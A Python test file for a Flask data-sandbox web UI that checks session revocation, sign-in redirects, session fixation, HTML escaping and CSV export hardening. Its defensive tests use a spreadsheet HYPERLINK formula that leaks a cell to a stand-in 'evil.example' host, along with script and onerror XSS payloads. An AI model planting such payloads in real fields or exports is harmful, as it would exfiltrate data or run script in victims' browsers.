"""Attacks on the web UI kept as tests: the session after a password change or a
deactivation, every page refusing an anonymous visitor, and the auditor's CSV export
against formulas an analyst's texts could carry (Flask's test client, SQLite and
PostgreSQL)."""

from __future__ import annotations

import base64
import csv
import hashlib
import io
from datetime import UTC, datetime
from typing import Any

from flask import Flask
from sqlalchemy import func, select

from authz.web_sessions import WebSession
from sandbox import db
from tests.api.helpers import approval, register
from tests.conftest import PASSWORD, Actor
from tests.web.conftest import World
from tests.web.helpers import Browser

NEW_PASSWORD = "a new and longer passphrase 2026"


def _sessions_of(app: Flask, person_id: str) -> int:
    with app.app_context(), db.services().sessions() as s:
        return int(s.scalar(select(func.count()).select_from(WebSession)
                            .where(WebSession.person_id == person_id)) or 0)


def test_a_password_change_ends_every_web_session_of_the_person(
        app: Flask, world: World, person: Any) -> None:
    # A person who fears their password (or a signed-in browser) was taken changes it:
    # a session started with the old password must not outlive the change.
    analyst: Browser = person(world.requester, "analyst")
    colleague: Browser = person(world.requester, "analyst")
    second = Browser(app.test_client(), analyst.email)
    assert second.sign_in().status_code == 302
    assert analyst.get("/requester/jobs").status_code == 200
    api = app.test_client()
    signed = api.post("/api/v1/sign-in", json={"email": analyst.email,
                                               "password": PASSWORD})
    token = signed.get_json()["token"]
    r = api.post("/api/v1/me/password", json={"current": PASSWORD, "new": NEW_PASSWORD},
                 headers={"Authorization": f"Bearer {token}"})
    assert r.status_code == 200, r.json
    pid = analyst.person_id  # type: ignore[attr-defined]
    assert _sessions_of(app, pid) == 0
    for browser in (analyst, second):
        r = browser.get("/requester/jobs")
        assert r.status_code == 302 and r.headers["Location"].startswith("/sign-in")
    assert colleague.get("/requester/jobs").status_code == 200  # another person's stays
    assert analyst.sign_in(password=NEW_PASSWORD).status_code == 302
    assert analyst.get("/requester/jobs").status_code == 200


def test_deactivation_deletes_the_person_s_sessions(
        app: Flask, world: World, person: Any, admin: Actor) -> None:
    # Refused at once by the live check; the rows go too, so no later change to the
    # person's row can bring a session back.
    analyst: Browser = person(world.requester, "analyst")
    pid = analyst.person_id  # type: ignore[attr-defined]
    assert _sessions_of(app, pid) == 1
    assert admin.post(f"/people/{pid}/deactivate").status_code == 200
    assert _sessions_of(app, pid) == 0
    assert analyst.get("/requester/jobs").status_code == 302


def test_every_page_sends_an_anonymous_visitor_to_sign_in(app: Flask, world: World) -> None:
    # A view added without page() would answer here: every web route is listed.
    anonymous = app.test_client()
    open_to_all = {"web.static", "web.home", "web.sign_in"}
    seen = 0
    for rule in app.url_map.iter_rules():
        if not rule.endpoint.startswith("web.") or rule.endpoint in open_to_all:
            continue
        path = rule.rule
        for arg in rule.arguments:
            path = path.replace(f"<int:{arg}>", "1").replace(f"<{arg}>", "x1")
        for method in sorted((rule.methods or set()) - {"HEAD", "OPTIONS"}):
            r = anonymous.open(path, method=method)
            seen += 1
            if method == "GET":
                assert r.status_code == 302, (method, path)
                assert r.headers["Location"].startswith("/sign-in"), (method, path)
            else:  # no form without the anonymous CSRF cookie's token
                assert r.status_code == 403, (method, path)
    assert seen > 30


def _finished_run(world: World, purpose: str, business_system: str) -> str:
    ds = register(world.provider, world.agent)
    req = world.requester.post("/requests", {
        "purpose": purpose, "use_kind": "statistics", "business_system": business_system,
        "items": [{"dataset_id": ds["id"], "columns": ["age", "cost"]}]})
    assert req.status_code == 201, req.json
    r = world.provider.post(f"/requests/{req.json['id']}/items/{ds['id']}/approve",
                            approval())
    job_id: str = world.requester.post("/jobs", {
        "permit_id": r.json["permit_id"], "dataset_ids": [ds["id"]],
        "script": "print(1)\n"}).json["id"]
    assert world.agent.post("/agent/tasks/next").json["task"]["job_id"] == job_id
    content = b"a,n\n1,12\n"
    r = world.agent.post(f"/agent/jobs/{job_id}/result", {
        "state": "released", "exit_code": 0, "rows_read": 500, "bytes_read": 9000,
        "input_sha256": "a" * 64, "runner_image": "runner:test", "log": "done",
        "outputs": [{"name": "table.csv", "sha256": hashlib.sha256(content).hexdigest(),
                     "bytes": len(content), "decision": "released", "reasons": [],
                     "content_b64": base64.b64encode(content).decode()}]})
    assert r.status_code == 200, r.json
    return job_id


def test_the_report_csv_never_starts_a_cell_a_spreadsheet_would_run(
        world: World, person: Any) -> None:
    # An analyst writes the purpose and business system; the auditor opens the export
    # in a spreadsheet. A leading tab or carriage return before "=" is still a formula
    # to some spreadsheet programs (OWASP's list: = + - @ tab CR).
    purpose = '\t=HYPERLINK("http://evil.example/?leak="&A1,"details")'
    job_id = _finished_run(world, purpose, "\r=1+1")
    auditor: Browser = person(world.regulator, "auditor")
    now = datetime.now(UTC)
    quarter = f"{now.year}Q{(now.month - 1) // 3 + 1}"
    text = auditor.get(f"/regulator/report.csv?quarter={quarter}").get_data(as_text=True)
    rows = list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))
    row = next(r for r in rows if r["job"] == job_id)
    assert row["purpose"] == "'" + purpose and row["business_system"] == "'\r=1+1"
    for r in rows:
        for value in r.values():
            assert not value[:1] or value[0] not in "=+-@\t\r\n", r
    # An empty cell stays empty (not a lone quote).
    assert row["authorizing_operator"] != "'"


def test_sign_in_never_keeps_a_session_id_it_was_given(
        app: Flask, world: World, person: Any) -> None:
    analyst: Browser = person(world.requester, "analyst")
    before = analyst.client.get_cookie("sandbox_web")
    assert before is not None
    # Signing in again in the same browser ends the session it had (one per sign-in).
    analyst.get("/requester/jobs")  # the session's form token
    again = analyst.post("/sign-in", {"email": analyst.email, "password": PASSWORD})
    assert again.status_code == 302
    after = analyst.client.get_cookie("sandbox_web")
    assert after is not None and after.value != before.value
    stale = app.test_client()
    stale.set_cookie("sandbox_web", before.value)
    assert stale.get("/requester/jobs").status_code == 302
    # A cookie planted before sign-in (session fixation) is replaced, never adopted.
    planted = Browser(app.test_client(), analyst.email)
    planted.client.set_cookie("sandbox_web", "planted-by-someone-else")
    assert planted.sign_in().status_code == 302
    got = planted.client.get_cookie("sandbox_web")
    assert got is not None and got.value != "planted-by-someone-else"


MARKUP = "<script>alert(1)</script>\"'><img src=x onerror=alert(2)>"


def test_an_analyst_s_texts_are_escaped_on_the_provider_s_and_auditor_s_pages(
        world: World, person: Any) -> None:
    job_id = _finished_run(world, "Counts by age. " + MARKUP, "sys " + MARKUP)
    approver: Browser = person(world.provider, "approver")
    auditor: Browser = person(world.regulator, "auditor")
    now = datetime.now(UTC)
    quarter = f"{now.year}Q{(now.month - 1) // 3 + 1}"
    pages = [approver.get("/provider/usage"), approver.get("/provider/permits"),
             auditor.get("/regulator/ledger"),
             auditor.get(f"/regulator/report?quarter={quarter}")]
    entries = auditor.get("/regulator/ledger?kind=request.created").get_data(as_text=True)
    index = entries.split('href="/regulator/ledger/', 1)[1].split('"', 1)[0]
    pages.append(auditor.get(f"/regulator/ledger/{index}"))
    for r in pages:
        html = r.get_data(as_text=True)
        assert r.status_code == 200
        assert "<script>alert" not in html and "<img src=x" not in html, r.request.path
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in pages[-1].get_data(as_text=True)
    assert job_id in pages[3].get_data(as_text=True)


def test_an_output_checker_reads_only_jobs_put_to_review(
        world: World, person: Any) -> None:
    # A job released automatically never went to review: its outputs are the requester's
    # results, and a provider sees only their digests (as GET /api/v1/jobs/<id> shows),
    # not their content through the review page, its download or the review API.
    job_id = _finished_run(world, "Counts by age band, for pricing.", "pricing-v2")
    checker: Browser = person(world.provider, "output_checker")
    assert checker.get(f"/provider/review/{job_id}").status_code == 404
    assert checker.get(f"/provider/review/{job_id}/outputs/table.csv").status_code == 404
    assert world.provider.get(f"/jobs/{job_id}").json["outputs"][0].get("content") is None
    signed = checker.client.post("/api/v1/sign-in", json={"email": checker.email,
                                                          "password": PASSWORD})
    api = checker.client.get(f"/api/v1/reviews/{job_id}", headers={
        "Authorization": f"Bearer {signed.get_json()['token']}"})
    assert api.status_code == 404
